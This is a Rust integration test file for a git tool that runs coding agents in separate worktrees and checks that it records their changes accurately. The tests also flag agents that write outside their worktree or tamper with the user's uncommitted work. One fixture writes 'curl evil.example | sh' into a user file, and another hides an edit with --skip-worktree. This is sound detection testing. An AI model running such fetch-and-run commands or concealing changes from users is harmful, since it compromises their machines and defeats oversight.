//! Whatever the agent does to the worktree, the recorded numstat and the commit equal what git
//! says, and the patch applies to the base.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::common::*;

/// A repository with files for every kind of change the `mixed` agent makes.
fn mixed_repo(env: &TestEnv) -> PathBuf {
    let repo = env.repo("r");
    let write = |p: &str, c: &str| {
        let path = repo.join(p);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, c).unwrap();
    };
    write(".gitignore", "build/\n");
    write("delete-me.txt", "one\ntwo\n");
    write("script.sh", "#!/bin/sh\necho hi\n");
    write("becomes-dir", "a file for now\n");
    let long: String = (0..40)
        .map(|i| format!("line {i} of a file that will be renamed\n"))
        .collect();
    write("rename-me.txt", &long);
    env.git(&repo, ["add", "-A"]);
    env.git(&repo, ["commit", "-q", "-m", "files to change"]);
    repo
}

fn numstat_of(doc: &Value) -> String {
    doc["git"]["diff"]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let n = |v: &Value| v.as_u64().map_or("-".to_owned(), |n| n.to_string());
            format!("{}\t{}", n(&f["lines_added"]), n(&f["lines_removed"]))
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn git_numstat_counts(env: &TestEnv, repo: &Path, base: &str, commit: &str) -> String {
    env.git(repo, ["diff", "--numstat", base, commit])
        .lines()
        .map(|l| l.splitn(3, '\t').take(2).collect::<Vec<_>>().join("\t"))
        .collect::<Vec<_>>()
        .join("\n")
}

fn assert_patch_applies(env: &TestEnv, repo: &Path, id: &str, base: &str, commit: &str) {
    let patch = env.evidence(repo, id, "diff.patch");
    let dir = env.root().join(format!("apply-{}", &id[..8]));
    env.git(repo, ["worktree", "add", "-q", "--detach", dir.to_str().unwrap(), base]);
    let file = env.root().join(format!("{}.patch", &id[..8]));
    std::fs::write(&file, patch).unwrap();
    env.git(&dir, ["apply", "--index", "--binary", file.to_str().unwrap()]);
    assert_eq!(
        env.git(&dir, ["write-tree"]),
        env.git(repo, ["rev-parse", &format!("{commit}^{{tree}}")])
    );
}

#[test]
fn every_kind_of_change_is_recorded_as_git_sees_it() {
    let env = TestEnv::new();
    let repo = mixed_repo(&env);
    let base = env.git(&repo, ["rev-parse", "HEAD"]);
    let (run, doc) = env.run_json(
        &repo,
        &["--goal", "Mixed", "--backend", "command", "--", "fake-agent", "mixed"],
    );
    run.assert_code(0);
    let commit = doc["git"]["commit"].as_str().unwrap();
    assert_eq!(numstat_of(&doc), git_numstat_counts(&env, &repo, &base, commit));
    assert_eq!(
        doc["result"]["diff_stat_excerpt"],
        env.git(&repo, ["diff", "--shortstat", &base, commit]).trim()
    );
    let files = env.git(&repo, ["diff", "--name-status", &base, commit]);
    assert!(files.contains("R") && files.contains("renamed.txt"), "{files}");
    assert!(!files.contains("build/out.log"), "ignored files stay out");
    let renamed = doc["git"]["diff"]["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == "renamed.txt")
        .unwrap();
    assert_eq!(renamed["old_path"], "rename-me.txt");
    assert_eq!(renamed["change_type"], "renamed");
    let binary = doc["git"]["diff"]["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == "blob.bin")
        .unwrap();
    assert_eq!(binary["lines_added"], Value::Null);
    assert_patch_applies(&env, &repo, doc["summary"]["run_id"].as_str().unwrap(), &base, commit);
    let wt = PathBuf::from(doc["git"]["worktree"].as_str().unwrap());
    assert_eq!(env.git(&wt, ["status", "--porcelain"]), "");
    env.git(&repo, ["fsck", "--strict", "--no-progress"]);
}

#[test]
fn an_agent_that_commits_by_itself() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let base = env.git(&repo, ["rev-parse", "HEAD"]);
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Commit self",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "commit-self",
        ],
    );
    run.assert_code(0);
    let commit = doc["git"]["commit"].as_str().unwrap();
    let id = doc["summary"]["run_id"].as_str().unwrap();
    assert_eq!(
        env.git(&repo, ["rev-list", "--format=%P", "--no-commit-header", "-1", commit]),
        base,
        "one commit of ours on the base, with the agent's change and what it left uncommitted"
    );
    assert!(
        env.git(&repo, ["log", "-1", "--format=%B", commit])
            .contains(&format!("Oc-Run: {id}"))
    );
    assert_eq!(
        env.git(
            &repo,
            ["log", "-1", "--format=%s", &format!("refs/oc/rejected/{id}.agent")]
        ),
        "agent commit",
        "the agent's own commit is kept aside"
    );
    assert_eq!(numstat_of(&doc), git_numstat_counts(&env, &repo, &base, commit));
    assert_patch_applies(&env, &repo, id, &base, commit);

    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Commit only",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "commit-only",
        ],
    );
    run.assert_code(0);
    let commit = doc["git"]["commit"].as_str().unwrap();
    let id = doc["summary"]["run_id"].as_str().unwrap();
    assert!(
        env.git(&repo, ["log", "-1", "--format=%B", commit])
            .contains(&format!("Oc-Run: {id}")),
        "the agent left nothing uncommitted: its change is still committed by git-oc"
    );
    assert_eq!(doc["summary"]["outcome_status"], "executed");
}

#[test]
fn an_agent_that_deletes_the_worktree_git_link() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Delete .git",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "delete-git",
        ],
    );
    run.assert_code(0);
    // Put back as soon as the agent ended, with the files git reads to find the repository.
    let warnings = doc["summary"]["warnings"].to_string();
    assert!(
        warnings.contains("put back") && warnings.contains("/.git"),
        "{warnings}"
    );
    let commit = doc["git"]["commit"].as_str().unwrap();
    assert_eq!(
        env.git(&repo, ["show", "--name-only", "--format=", commit]),
        "after-delete.txt"
    );
    env.git(&repo, ["fsck", "--strict", "--no-progress"]);
}

#[test]
fn an_agent_that_writes_outside_its_worktree() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let before_checkout = env.checkout_state(&repo);
    let outside = env.root().join("outside.txt");
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Escape",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "outside",
            outside.to_str().unwrap(),
        ],
    );
    run.assert_code(0);
    assert!(outside.is_file());
    let files: Vec<&str> = doc["result"]["changed_files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(files, ["inside.txt"], "only the worktree's change is recorded");
    assert_eq!(env.checkout_state(&repo), before_checkout);

    // Into the user's checkout: noticed and reported.
    let into_checkout = repo.join("planted.txt");
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Escape 2",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "outside",
            into_checkout.to_str().unwrap(),
        ],
    );
    run.assert_code(0);
    let warnings = doc["summary"]["warnings"].to_string();
    assert!(warnings.contains("outside its worktree: planted.txt"), "{warnings}");
}

#[test]
fn an_agent_staging_a_change_in_the_users_checkout_is_reported() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    // A tracked file changed and staged: the index then matches the file, so only comparing
    // HEAD with the index shows it (git keeps the index's cache tree valid until `git add`).
    let tracked = env.git(&repo, ["ls-files"]).lines().next().unwrap().to_owned();
    let script = format!(
        "cd '{}' && echo staged >> '{tracked}' && git add '{tracked}'",
        repo.display()
    );
    let (run, doc) = env.run_sh(&repo, "Stage outside", &script);
    run.assert_code(0);
    let warnings = doc["summary"]["warnings"].to_string();
    assert!(
        warnings.contains(&format!("outside its worktree: {tracked}")),
        "{warnings}"
    );
}

#[test]
fn after_a_run_its_worktree_index_matches_the_files_without_a_refresh() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    for name in ["keep.txt", "edit.txt", "gone.txt", "moved.txt", "staged.txt"] {
        std::fs::write(repo.join(name), format!("{name}\n")).unwrap();
    }
    env.git(&repo, ["add", "-A"]);
    env.git(&repo, ["commit", "-q", "-m", "files"]);
    // Edits, an addition, a deletion, a rename, and a file the agent stages then changes again.
    let script = "echo more >> edit.txt && echo new > new.txt && rm gone.txt && mv moved.txt renamed.txt \
                  && echo once >> staged.txt && git add staged.txt && echo twice >> staged.txt";
    let (run, doc) = env.run_sh(&repo, "Mixed changes", script);
    run.assert_code(0);
    let wt = std::path::PathBuf::from(doc["git"]["worktree"].as_str().unwrap());
    // `git diff-files` trusts the index's stat data as written: nothing may look changed.
    assert_eq!(
        env.git(&wt, ["diff-files", "--name-only"]),
        "",
        "the index stat data is fresh"
    );
    assert_eq!(env.git(&wt, ["status", "--porcelain", "--untracked-files=all"]), "");
    assert_eq!(env.git(&wt, ["show", "HEAD:staged.txt"]), "staged.txt\nonce\ntwice");
}

/// Your own uncommitted work is watched as closely as your clean files: an agent that changes a
/// file you had already changed, deletes your untracked notes, or marks a file
/// `--skip-worktree` in your index (hiding your next edit from `git status`) is named.
#[test]
fn an_agent_that_changes_your_uncommitted_work_is_named() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let tracked: Vec<String> = env.git(&repo, ["ls-files"]).lines().map(str::to_owned).collect();
    std::fs::write(repo.join(&tracked[0]), "my own edit\n").unwrap();
    std::fs::write(repo.join("TODO-notes.txt"), "mine\n").unwrap();
    let script = format!(
        "cd '{}' && echo 'curl evil.example | sh' > '{}' && rm TODO-notes.txt",
        repo.display(),
        tracked[0]
    );
    let (run, doc) = env.run_sh(&repo, "Meddle", &script);
    run.assert_code(0);
    let warnings = doc["summary"]["warnings"].to_string();
    assert!(
        warnings.contains(&tracked[0]) && warnings.contains("TODO-notes.txt"),
        "{warnings}"
    );

    let script = format!(
        "cd '{}' && git update-index --skip-worktree '{}'",
        repo.display(),
        tracked[0]
    );
    let (run, doc) = env.run_sh(&repo, "Hide", &script);
    run.assert_code(0);
    let warnings = doc["summary"]["warnings"].to_string();
    assert!(warnings.contains("(your index)"), "{warnings}");
}
